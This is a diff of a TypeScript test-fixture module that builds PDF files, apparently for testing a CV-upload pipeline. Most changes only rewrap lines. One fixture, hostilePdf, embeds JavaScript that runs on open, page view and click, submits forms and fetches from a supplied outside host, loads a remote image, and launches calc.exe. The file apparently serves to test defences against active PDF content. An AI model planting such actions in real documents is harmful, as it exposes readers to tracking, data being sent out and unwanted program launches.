@@ -19,10 +19,21 @@ const written = (lines: string[]) =>
     .map((line) => `0 -26 Td (${escaped(line)}) Tj`)
     .join(' ')} ET`
 
-/** Extra objects beside the pages. The first is 100, as `catalog` and `page` may reference it; the first two are X1 and X2 of each page. */
-export function pdfOf({ pages = [['Curriculum vitae']], size = [595, 842], catalog = '', page = '', objects = [], trailer = '' }: Given = {}): Buffer {
+/**
+ * Extra objects beside the pages. The first is 100, as `catalog` and `page` may reference it; the first two
+ * are X1 and X2 of each page.
+ */
+export function pdfOf({
+  pages = [['Curriculum vitae']],
+  size = [595, 842],
+  catalog = '',
+  page = '',
+  objects = [],
+  trailer = '',
+}: Given = {}): Buffer {
   const parts = new Map<number, Buffer>()
-  const put = (id: number, body: string | Buffer) => parts.set(id, Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'))
+  const put = (id: number, body: string | Buffer) =>
+    parts.set(id, Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'))
   const idOf = (at: number) => 1_000 + at * 2
   put(1, `<</Type/Catalog/Pages 2 0 R${catalog}>>`)
   put(2, `<</Type/Pages/Kids[${pages.map((_, at) => `${idOf(at)} 0 R`).join(' ')}]/Count ${pages.length}>>`)
@@ -44,7 +55,11 @@ export function pdfOf({ pages = [['Curriculum vitae']], size = [595, 842], catal
   const places = new Map<number, number>()
   let length = pieces[0]?.length ?? 0
   for (const id of ids) {
-    const piece = Buffer.concat([Buffer.from(`${id} 0 obj\n`), parts.get(id) ?? Buffer.alloc(0), Buffer.from('\nendobj\n')])
+    const piece = Buffer.concat([
+      Buffer.from(`${id} 0 obj\n`),
+      parts.get(id) ?? Buffer.alloc(0),
+      Buffer.from('\nendobj\n'),
+    ])
     places.set(id, length)
     pieces.push(piece)
     length += piece.length
@@ -55,9 +70,16 @@ export function pdfOf({ pages = [['Curriculum vitae']], size = [595, 842], catal
 }
 
 const stream = (entries: string, data: string | Buffer) =>
-  Buffer.concat([Buffer.from(`<<${entries}/Length ${data.length}>>stream\n`), Buffer.from(data), Buffer.from('\nendstream')])
+  Buffer.concat([
+    Buffer.from(`<<${entries}/Length ${data.length}>>stream\n`),
+    Buffer.from(data),
+    Buffer.from('\nendstream'),
+  ])
 
-/** Everything that runs when a viewer allows it: on open, on page view, on a click, and by links to other sites. */
+/**
+ * Everything that runs when a viewer allows it: on open, on page view, on a click, and by links to other
+ * sites.
+ */
 export function hostilePdf(elsewhere: string): Buffer {
   const script = `app.alert('it has run'); this.submitForm('${elsewhere}script'); app.launchURL('${elsewhere}launched', true); fetch('${elsewhere}fetch')`
   const run = `<</S/JavaScript/JS(${escaped(script)})>>`
@@ -68,7 +90,10 @@ export function hostilePdf(elsewhere: string): Buffer {
     page: `/AA<</O ${run}/C ${run}>>/Annots[101 0 R 102 0 R 103 0 R 104 0 R]`,
     objects: [
       // An image whose bytes are on another server.
-      stream(`/Type/XObject/Subtype/Image/Width 8/Height 8/ColorSpace/DeviceGray/BitsPerComponent 8/F<</FS/URL/F(${elsewhere}picture)>>`, ''),
+      stream(
+        `/Type/XObject/Subtype/Image/Width 8/Height 8/ColorSpace/DeviceGray/BitsPerComponent 8/F<</FS/URL/F(${elsewhere}picture)>>`,
+        '',
+      ),
       `<</Type/Annot/Subtype/Link${everywhere}/A<</S/URI/URI(${elsewhere}link)>>>>`,
       `<</Type/Annot/Subtype/Link${everywhere}/A<</S/Launch/F(calc.exe)/Win<</F(calc.exe)>>>>>>`,
       `<</Type/Annot/Subtype/Screen${everywhere}/A<</S/Rendition/OP 0/JS(${escaped(script)})>>/AA<</PV ${run}/E ${run}>>>>`,
@@ -96,14 +121,20 @@ export const damagedPdf = () => Buffer.from(`%PDF-1.7\n${'no object stands here\
 const JPEG_2000 =
   '/0//UQApAAAAAAAQAAAAEAAAAAAAAAAAAAAAEAAAABAAAAAAAAAAAAABBwEB/1IADAAAAAEAAAQEAAH/XAAEQED/ZAAlAAFDcmVhdGVkIGJ5IE9wZW5KUEVHIHZlcnNpb24gMi41LjT/kAAKAAAAAACEAAH/k9+DmHiZDMZCquOesuwUzdv8rk3WAeQwAAMJCXL/HiAAAwkJSBMAYR5inEfcpoj7lNEhL4wcAAAYRzj/D9FOEfcpokJfGDgAADCOcf4/RThH3KaJCXxg4AAAwjnH+P0U4R9ymiQl8YOAAAMI5x/j9FOEfcpokJf/2Q=='
 
-/** A scan as office machines write it: no text, above an image in JPEG 2000, below a black one as a fax sends it. */
+/**
+ * A scan as office machines write it: no text, above an image in JPEG 2000, below a black one as a fax sends
+ * it.
+ */
 export const scannedPdf = () => {
   const picture = '/Type/XObject/Subtype/Image/Width 16/Height 16/ColorSpace/DeviceGray'
   return pdfOf({
     pages: ['q 300 0 0 300 100 500 cm /X1 Do Q q 300 0 0 300 100 100 cm /X2 Do Q'],
     objects: [
       stream(`${picture}/BitsPerComponent 8/Filter/JPXDecode`, Buffer.from(JPEG_2000, 'base64')),
-      stream(`${picture}/BitsPerComponent 1/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 16/Rows 16/BlackIs1 true>>`, Buffer.from('ffff001001', 'hex')),
+      stream(
+        `${picture}/BitsPerComponent 1/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 16/Rows 16/BlackIs1 true>>`,
+        Buffer.from('ffff001001', 'hex'),
+      ),
     ],
   })
 }
